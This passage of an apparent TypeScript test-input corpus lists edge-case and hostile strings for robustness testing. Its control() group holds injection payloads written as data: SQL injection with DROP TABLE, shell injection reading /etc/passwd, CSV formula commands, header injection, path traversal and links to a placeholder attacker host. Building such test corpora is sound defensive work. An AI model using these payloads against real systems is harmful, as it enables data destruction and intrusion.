      '{"constructor":{"prototype":{"polluted":true}}}',
      '["__proto__"]',
      '__proto__\u0000',
    ],
    ...['__\u0440roto__', 'firstName', 'custom', 'custom.__proto__', 'tags', 'version', 'contactId'],
  ];
}

/** Control characters, ends of lines, and what protocols and terminals make of them. */
function control(): readonly string[] {
  const all = Array.from({ length: 32 }, (_, code) => code).filter((code) => ![9, 10, 13, 32].includes(code));
  return [
    ...all.map((code) => `a${String.fromCharCode(code)}b`),
    ...['\u007f', '\u0080', '\u0085', '\u009b31m', '\u2028', '\u2029', '\ufdd0', '\ufff9x\ufffay\ufffb'].map(
      (one) => `a${one}b`,
    ),
    `\u001b[2J\u001b[31mred\u001b[0m`,
    `\u001b]8;;https://${EVIL}/\u0007link\u001b]8;;\u0007`,
    `a\r\nSet-Cookie: a=b`,
    `a\n\ndata: {"id":"evil"}\n\n`,
    `event: contact\ndata: {}`,
    `a\r\n\r\n<script>${RUN}</script>`,
    `=cmd|'/c calc'!A1`,
    `@SUM(1+1)*cmd|' /C calc'!A0`,
    `+HYPERLINK("//${EVIL}","x")`,
    `' OR 1=1 --`,
    `'; DROP TABLE contacts; --`,
    `" UNION SELECT * FROM users --`,
    `\\'; DELETE FROM contacts WHERE 'a'='a`,
    `$$;SELECT pg_sleep(9);$$`,
    `{"$gt":""}`,
    `*)(uid=*))(|(uid=*`,
    `| cat /etc/passwd`,
    `\`id\`; $(id)`,
    `../../../../etc/passwd`,
    `..\\..\\windows\\win.ini`,
    `%00%2e%2e%2f`,
    `CON`,
    `a,b;c\td|e`,
  ];
}

/** Texts that formatters, translators and replacing functions read: ICU messages, printf, patterns of `replace`, dates, tags. */
function format(): readonly string[] {
  return [
    ...[
      '{0}',
      '{name}',
      '{count, plural, one {#} other {#}}',
      '{x, select, other {<b>x</b>}}',
      "'{'",
      '{x, date, ::yyyyMMdd}',
      '{',
      '}',
    ],
    ...['%s', '%n', '%@', '%1$s', '%x%x%x%x', '%(name)s', '%c', '%o%O', '%%', '%d%i%f', '%.1000000f'],
    ...['$&', '$1', '$`', "$'", '$$', '$<name>', '$0', '\\1', '\\g<0>', '&', '\\&'],
    ...[':name', '@:message.common', '$t(key)', '{{count}}', '{count}', '#{name}', '__name__', '|name|', '%{name}', '<0>x</0>'],
    ...[
      '(a+)+$',
      '^(([a-z])+.)+[A-Z]([a-z])+$',
      '(?<=a)b',
      '[',
      '(',
      '*',
      '?',
      '\\',
      '.*',
      '(?i)x',
      '/x/gi',
      '\\p{L}',
      '[[:alpha:]]',
    ],
    ...[
      'en-x-<b>',
      'x-default',
      'en_US@calendar=buddhist',
      'i-klingon',
      'de-DE-u-co-phonebk',
      'zz-ZZ-zzzz',
      'root',
      'C',
      '*-CH',
      'a',
    ],
    ...[
      '9999-12-31',
      '+275760-09-13',
      '-000001-01-01',
      '2024-02-30',
      '0000-00-00',
      '24:00',
      '23:59:60',
      '2024-01-01T00:00:00+99:99',
    ],
    ...[
      '1970-01-01T00:00Z[Evil/Zone]',
      'P1Y',
      'now',
      'Invalid Date',
      '1,2.3,4',
      '1e5',
      '٣',
      '½',
      '-',
      '+',
      '€',
      '1/0',
      '١٬٢٣٤',
      'XXX',
    ],
    ...[
      '&nbsp;',
      '&copy',
      '&#0;',
      '&#xD800;',
      '&#x110000;',
      '&notanentity;',
      '&lt',
      '&Tab;',
      '%E0%A4%A',
      '%C0%BC',
      '%u003c',
      '\\u{3c}',
    ],
  ];
}
